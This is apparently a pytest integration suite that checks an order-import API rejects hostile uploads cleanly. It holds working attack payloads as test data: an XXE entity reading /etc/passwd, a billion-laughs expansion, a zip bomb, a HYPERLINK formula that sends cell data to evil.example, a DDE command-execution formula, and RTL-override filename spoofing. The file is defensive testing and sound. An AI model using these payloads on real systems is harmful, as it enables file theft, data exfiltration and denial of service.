"""Hostile uploads: oversized bodies, zip bombs, XML entity expansion, formula injection, awkward Unicode.
Each gets a clear 4xx or a recorded row error; nothing answers 500."""

from __future__ import annotations

import io
import re
import time
import zipfile
from collections.abc import AsyncIterator, Callable
from pathlib import Path
from typing import Any

import httpx
import pytest
from openpyxl import load_workbook

from services.core import bounds
from services.ingest.domain.spreadsheet import issues
from tests.integration.hostile.conftest import MAX_UPLOAD, Api, csv_bytes, header_index, upload
from tests.integration.hostile.test_console_inputs import signed_in
from tests.support.hostile_xlsx import prefixed_cells
from tests.unit.ingest.test_import_container_bounds import damaged_xls
from tools.samples import SampleRow, sample_rows, write_sample_csv, write_sample_xlsx

pytestmark = pytest.mark.integration
TEXT_COLUMNS = ["Store Name", "Product Name", "Buyer Nickname", "Receiver Name", "Receiver Address", "Remark"]


PREAMBLE = b'--x\r\nContent-Disposition: form-data; name="file"; filename="big.csv"\r\nContent-Type: text/csv\r\n\r\n'


class Body:
    """A request body streamed in chunks, counting how many the server pulled."""

    def __init__(self, total: int, chunk: int = 64 * 1024) -> None:
        self.total, self.chunk, self.pulled = total, chunk, 0

    async def __aiter__(self) -> AsyncIterator[bytes]:
        self.pulled += 1
        yield PREAMBLE
        sent = len(PREAMBLE)
        while sent < self.total:
            self.pulled += 1
            sent += self.chunk
            yield b"x" * self.chunk


@pytest.mark.parametrize("declared", [True, False], ids=["content-length", "chunked"])
async def test_an_oversized_upload_is_refused_before_it_is_read_whole(api: Api, declared: bool) -> None:
    body = Body(total=MAX_UPLOAD * 40)  # 10 MB against a 256 KB limit
    headers = api.headers() | {"Content-Type": "multipart/form-data; boundary=x"}
    if declared:
        headers["Content-Length"] = str(body.total)
    started = time.monotonic()
    response = await api.client.post("/v1/imports", content=body, headers=headers)
    assert time.monotonic() - started < 5
    assert body.pulled < body.total // body.chunk, "the whole body was read before refusing it"
    assert response.status_code == 413, response.text
    assert response.json()["code"] in {"request_too_large", "file_too_large"}


async def test_a_file_just_over_the_limit_is_413(api: Api) -> None:
    response = await upload(api, "big.csv", b"a" * (MAX_UPLOAD + 10))
    assert response.status_code == 413, response.text
    assert response.json()["code"] == "file_too_large"
    assert response.json()["detail"] == "文件大小为 0.26 MB；每次最多接受 0.25 MB。请拆分文件后分别上传。"


@pytest.mark.parametrize(
    ("query", "language", "expected"),
    [
        ("", None, "文件超过 0.25 MB（每次上传的上限）：请拆分文件后分别上传。"),
        (
            "?lang=en",
            None,
            "The file is larger than 0.25 MB, the most accepted per upload; split it into smaller files.",
        ),
        (
            "",
            "en-US,en;q=0.9",
            "The file is larger than 0.25 MB, the most accepted per upload; split it into smaller files.",
        ),
    ],
)
async def test_an_oversized_upload_is_refused_as_file_too_large_in_the_users_language(
    api: Api, query: str, language: str | None, expected: str
) -> None:
    headers = api.headers() | {"Content-Type": "multipart/form-data; boundary=x"}
    if language:
        headers["Accept-Language"] = language
    body = PREAMBLE + b"x" * (MAX_UPLOAD * 2)
    response = await api.client.post(f"/v1/imports{query}", content=body, headers=headers)
    assert response.status_code == 413, response.text
    assert (response.json()["code"], response.json()["detail"]) == ("file_too_large", expected)


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _xlsx_with(tmp_path: Path, replace: dict[str, bytes]) -> bytes:
    path = tmp_path / "base.xlsx"
    write_sample_xlsx(path, sample_rows(2, 1))
    with zipfile.ZipFile(path) as archive:
        members = {info.filename: archive.read(info) for info in archive.infolist()}
    return _zip(members | replace)


async def test_a_zip_bomb_is_refused(api: Api, tmp_path: Path) -> None:
    bomb = _xlsx_with(tmp_path, {"xl/worksheets/sheet1.xml": b"<" + b"\0" * (150 * 1024 * 1024)})
    assert len(bomb) < MAX_UPLOAD
    started = time.monotonic()
    response = await upload(api, "bomb.xlsx", bomb)
    assert 400 <= response.status_code < 500, response.text
    assert time.monotonic() - started < 10


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
<!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
<!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">]>
<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&lol9;</t></si></sst>"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?><!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&xxe;</t></si></sst>"""


@pytest.mark.parametrize("xml", [BILLION_LAUGHS, EXTERNAL_ENTITY], ids=["billion-laughs", "external-entity"])
async def test_xml_entities_inside_an_xlsx_are_refused(api: Api, tmp_path: Path, xml: bytes) -> None:
    workbook = _xlsx_with(tmp_path, {"xl/sharedStrings.xml": xml})
    started = time.monotonic()
    response = await upload(api, "entities.xlsx", workbook)
    assert 400 <= response.status_code < 500, response.text
    assert "root:" not in response.text
    assert time.monotonic() - started < 10


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-1+2",
    "@SUM(A1:A9)",
    "=1+1",
    "\t=2+2",
]


async def test_formulas_in_text_fields_never_reach_the_result_workbook_as_formulas(api: Api, tmp_path: Path) -> None:
    rows = [list(r) for r in sample_rows(len(FORMULAS), 1, seed=7)]
    for row, formula in zip(rows, FORMULAS, strict=True):
        for column in TEXT_COLUMNS:
            row[header_index(column)] = formula
    rows[0][header_index("Quantity")] = "=1/0"  # an invalid row: its cells and error text appear too
    response = await upload(api, "formulas.csv", csv_bytes([tuple(r) for r in rows], tmp_path))
    assert response.status_code == 202, response.text
    result = await api.client.get(response.json()["result_url"], headers=api.headers())
    assert result.status_code == 200
    book = load_workbook(io.BytesIO(result.content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [str(c.value) for c in cells if isinstance(c.value, str)]
    assert any("HYPERLINK" in t for t in texts), "the hostile text should still be shown, as text"
    assert not [t for t in texts if t.startswith(("=", "+", "-", "@"))]


UNICODE = ["emoji 🛒🎉👩‍👩‍👧", "rtl \u202egnp.exe\u202c", "mark \u200f\u200e", "nul \x00 byte", "bom \ufeff"]


async def test_unicode_edge_cases_in_every_text_field_give_row_errors_or_land(api: Api, tmp_path: Path) -> None:
    rows = [list(r) for r in sample_rows(len(UNICODE), 1, seed=11)]
    for row, text in zip(rows, UNICODE, strict=True):
        for column in TEXT_COLUMNS:
            row[header_index(column)] = text
    response = await upload(api, "unicode.csv", csv_bytes([tuple(r) for r in rows], tmp_path))
    assert response.status_code in (202, 400, 422), response.text
    if response.status_code == 202:
        body = response.json()
        assert body["valid_rows"] + body["invalid_rows"] == len(UNICODE)
        status = await api.client.get(body["status_url"], headers=api.headers())
        assert status.status_code == 200


async def test_a_lone_surrogate_in_a_csv_is_a_clear_error(api: Api) -> None:
    rows = [list(r) for r in sample_rows(1, 1, seed=3)]
    header = "Order No.*,Order Source*"
    content = ("\n".join([header, "X1,youzan"]) + "\n").encode() + b"\xed\xa0\x80 lone surrogate\n"
    del rows
    response = await upload(api, "surrogate.csv", content)
    assert response.status_code in (202, 400, 422), response.text


async def test_a_huge_api_key_header_is_a_4xx(api: Api) -> None:
    response = await api.client.get("/v1/orders", headers={"X-API-Key": "oik_" + "A" * 100_000})
    assert 400 <= response.status_code < 500, response.text


async def test_the_upload_endpoint_survives_a_non_multipart_body(api: Api) -> None:
    headers = api.headers() | {"Content-Type": "application/json"}
    response = await api.client.post("/v1/imports", content=b"{}", headers=headers)
    assert response.status_code in (400, 422), response.text


# --- issue 10: value problems are row errors up front, in the dry run as in the import, never a 500 -----------

Rows = list[list[Any]]


def _set(column: str, value: Any, row: int = 0) -> Callable[[Rows], None]:
    def change(rows: Rows) -> None:
        rows[row][header_index(column)] = value

    return change


def _xlsx_patched(tmp: Path, rows: Rows, replace: dict[bytes, bytes]) -> bytes:
    path = tmp / "patched.xlsx"
    write_sample_xlsx(path, [tuple(r) for r in rows])
    with zipfile.ZipFile(path) as archive:
        members = {info.filename: archive.read(info) for info in archive.infolist()}
    sheet = members["xl/worksheets/sheet1.xml"]
    for old, new in replace.items():
        assert old in sheet
        sheet = sheet.replace(old, new)
    return _zip(members | {"xl/worksheets/sheet1.xml": sheet})


def _file(tmp: Path, kind: str, rows: Rows) -> tuple[str, bytes]:
    if kind == "xlsx":
        path = tmp / "orders.xlsx"
        write_sample_xlsx(path, [tuple(r) for r in rows])
        return "orders.xlsx", path.read_bytes()
    path = tmp / "orders.csv"
    write_sample_csv(path, [tuple(r) for r in rows], encoding=kind)
    return "orders.csv", path.read_bytes()


# name: (file kind, change of the first order's first row, timezone, expected code on that row)
VALUE_PROBLEMS: dict[str, tuple[str, Callable[[Rows], None], str, str]] = {
    "money of 28 digits": ("utf-8-sig", _set("Unit Price", "1" * 28), "Asia/Shanghai", issues.TOO_LARGE),
    "money of 40 digits in a number cell": ("xlsx", _set("Order Amount", 1e39), "Asia/Shanghai", issues.TOO_LARGE),
    "NUL in a UTF-16 CSV": ("utf-16", _set("Remark", "a\x00b"), "Asia/Shanghai", issues.INVALID_CHARACTER),
    "BEL in a GB18030 CSV": ("gb18030", _set("Product Name", "bell\x07"), "Asia/Shanghai", issues.INVALID_CHARACTER),
    "ESC in an unknown column": ("utf-8-sig", _set("Channel Note", "\x1b[31m"), "UTC", issues.INVALID_CHARACTER),
    "line total over the money bound": (
        "utf-8-sig",
        lambda rows: [_set("Quantity", "1000000")(rows), _set("Unit Price", "999999999999.99")(rows)],
        "Asia/Shanghai",
        issues.TOTAL_TOO_LARGE,
    ),
    "year 0001 east of UTC": (
        "utf-8-sig",
        _set("Order Time", "0001-01-01 00:00:00"),
        "Asia/Shanghai",
        issues.TIME_OUT_OF_RANGE,
    ),
    "9999-12-31 west of UTC": (
        "utf-8-sig",
        _set("Payment Time", "9999-12-31 23:59:59"),
        "America/New_York",
        issues.TIME_OUT_OF_RANGE,
    ),
    "18-digit order no. as a number cell": (
        "xlsx",
        lambda rows: [_set("Order No.", 123456789012345678 + i, i)(rows) for i in range(2)],  # distinct
        "Asia/Shanghai",
        issues.INEXACT_NUMBER,
    ),
}


async def _both(api: Api, name: str, content: bytes, **form: str) -> tuple[httpx.Response, httpx.Response]:
    """The dry run, then the real import, of the same file."""
    return await upload(api, name, content, dry_run="true", **form), await upload(api, name, content, **form)


async def _assert_agree_and_readable(api: Api, dry: httpx.Response, real: httpx.Response) -> dict[str, Any]:
    assert dry.status_code == 202 and real.status_code == 202, (dry.text, real.text)
    plan, receipt = dry.json(), real.json()
    keys = ("rows", "valid_rows", "invalid_rows", "orders_held_back", "first_errors")
    assert {k: plan[k] for k in keys} == {k: receipt[k] for k in keys}
    assert len(plan["orders"]) == receipt["orders"]
    status = await api.client.get(receipt["status_url"], headers=api.headers())
    assert status.status_code == 200, status.text
    book = await api.client.get(receipt["result_url"], headers=api.headers())
    assert book.status_code == 200, book.text
    cells = [c for r in load_workbook(io.BytesIO(book.content)).active.iter_rows(values_only=True) for c in r]
    assert all(bounds.unstorable_char(c) is None for c in cells if isinstance(c, str))
    return receipt  # type: ignore[no-any-return]


@pytest.mark.parametrize("case", list(VALUE_PROBLEMS))
async def test_a_value_problem_is_a_row_error_in_the_dry_run_and_the_import(
    api: Api, tmp_path: Path, case: str
) -> None:
    kind, change, zone, code = VALUE_PROBLEMS[case]
    rows = [list(r) for r in sample_rows(3, 2, seed=21)]
    change(rows)
    name, content = _file(tmp_path, kind, rows)
    receipt = await _assert_agree_and_readable(api, *await _both(api, name, content, timezone=zone))
    assert receipt["first_errors"][0]["row"] == 2 and receipt["first_errors"][0]["code"] == code, receipt
    held_back = 0 if code == issues.INEXACT_NUMBER else 1  # a row without a usable Order No. is in no order
    assert (receipt["orders"], receipt["orders_held_back"]) == (2, held_back)


@pytest.mark.parametrize("escape", [b"_x0000_", b"_x0007_", b"&#1;", b"\x1b"], ids=["x0000", "x0007", "amp1", "esc"])
async def test_control_characters_smuggled_into_an_xlsx_are_row_errors(api: Api, tmp_path: Path, escape: bytes) -> None:
    rows = [list(r) for r in sample_rows(2, 1, seed=5)]
    rows[0][header_index("Product Name")] = "MARKER"
    content = _xlsx_patched(tmp_path, rows, {b"MARKER": b"a" + escape + b"b"})
    receipt = await _assert_agree_and_readable(api, *await _both(api, "smuggled.xlsx", content))
    assert [(e["row"], e["code"]) for e in receipt["first_errors"]] == [(2, issues.INVALID_CHARACTER)]
    assert receipt["orders"] == 1


async def test_an_order_of_more_lines_than_the_bound_is_refused_before_anything_is_published(
    api: Api, tmp_path: Path
) -> None:
    rows: list[SampleRow] = [*sample_rows(1, bounds.MAX_LINES_PER_ORDER + 1, seed=8), *sample_rows(1, 2, seed=9)]
    name, content = _file(tmp_path, "utf-8-sig", [list(r) for r in rows])
    assert len(content) < MAX_UPLOAD
    receipt = await _assert_agree_and_readable(api, *await _both(api, name, content))
    assert receipt["invalid_rows"] == bounds.MAX_LINES_PER_ORDER + 1
    assert {e["code"] for e in receipt["first_errors"]} == {issues.TOO_MANY_LINES}
    assert (receipt["orders"], receipt["orders_held_back"]) == (1, 1)


async def test_a_nul_byte_in_the_uploads_file_name_is_recorded_cleaned(api: Api, tmp_path: Path) -> None:
    content = csv_bytes(sample_rows(1, 1, seed=4), tmp_path)
    body = (
        b'--x\r\nContent-Disposition: form-data; name="file"; filename="ord\x00ers\x07.csv"\r\n'
        b"Content-Type: text/csv\r\n\r\n" + content + b"\r\n--x--\r\n"
    )
    headers = api.headers() | {"Content-Type": "multipart/form-data; boundary=x"}
    answer = await api.client.post("/v1/imports", content=body, headers=headers)
    assert answer.status_code == 202, answer.text
    status = (await api.client.get(answer.json()["status_url"], headers=api.headers())).json()
    assert status["filename"] == "ord\ufffders\ufffd.csv"


def _with_nul_in_name(workbook: bytes, name: str, *, last: bool = False) -> bytes:
    """`workbook` with each `~` (or, `last`, the last character) of the member `name` made NUL, in its local
    header and the central directory (Python's zipfile cannot write such a name: it ends a name at a NUL)."""
    assert workbook.count(name.encode()) == 2
    nul = name[:-1] + "\x00" if last else name.replace("~", "\x00")
    return workbook.replace(name.encode(), nul.encode())


@pytest.mark.parametrize(
    ("name", "status", "code"),
    [
        ("xl/unknown~part.bin", 202, None),  # a part no reader looks at: ignored, as any unknown part
        ("xl/unknown~part.xml", 202, None),
        ("xl/~/~.xml", 202, None),
        ("xl/a.xml~b", 400, issues.UNSAFE_XML),  # read as xl/a.xml (zip readers end a name at its NUL): checked
        ("xl/worksheets/sheet1.xml", 400, issues.CORRUPT_WORKBOOK),  # the sheet the workbook names is missing
        ("xl/workbook.xml", 400, issues.UNSUPPORTED_FORMAT),
    ],
)
async def test_a_nul_in_a_zip_member_name_never_answers_500(
    api: Api, tmp_path: Path, name: str, status: int, code: str | None
) -> None:
    known = name in ("xl/worksheets/sheet1.xml", "xl/workbook.xml")
    content = b"<!DOCTYPE x><x/>" if name.endswith("b") else b"<x/>"
    base = _xlsx_with(tmp_path, {} if known else {name: content})
    workbook = _with_nul_in_name(base, name, last=known)
    for form in ({"dry_run": "true"}, {"dry_run": "false"}, {"mode": "strict"}):
        response = await upload(api, "nul.xlsx", workbook, **form)
        assert response.status_code == status, response.text
        assert response.json().get("code") == code and "\\u0000" not in response.text


async def test_files_that_abort_calamine_are_refused_and_the_api_reads_the_next_upload(
    api: Api, tmp_path: Path
) -> None:
    bomb = prefixed_cells(16_384)  # 2.7 KB: calamine would ask for 5.7 GB and abort the process reading it
    response = await upload(api, "bomb.xlsx", bomb)
    assert 400 <= response.status_code < 500, response.text
    assert response.json()["code"] == issues.TOO_MANY_COLUMNS, response.text
    damaged = await upload(api, "orders.xls", damaged_xls(), key=api.key_b)  # read: calamine aborts its worker
    assert damaged.status_code == 400, damaged.text
    assert damaged.json()["code"] == issues.ENCRYPTED_OR_LEGACY and ".xlsx" in damaged.json()["detail"]
    good = tmp_path / "good.xlsx"
    write_sample_xlsx(good, sample_rows(3, 2, seed=5))
    response = await upload(api, "good.xlsx", good.read_bytes(), key=api.key_b, dry_run="true")
    assert response.status_code == 202, response.text
    assert len(response.json()["orders"]) == 3, response.json()


async def test_the_consoles_preview_shows_the_file_name_without_invisible_characters(api: Api, tmp_path: Path) -> None:
    # the preview showed the name as sent: an override (U+202E) reversed the title, a direction mark hid in it
    data = csv_bytes(sample_rows(1, 1, seed=5), tmp_path)
    client = await signed_in(api)
    try:
        page = await client.get("/console/imports")
        token = re.search(r'name="csrf" value="([^"]+)"', page.text)
        assert token is not None
        files = {"file": ("\u202e订单\u200e.csv", data, "text/csv")}
        preview = await client.post("/console/imports/preview", files=files, data={"csrf": token[1]})
        assert preview.status_code == 200, preview.text[:300]
        assert "订单.csv" in preview.text and "\u202e" not in preview.text and "\u200e" not in preview.text
    finally:
        client.cookies.clear()
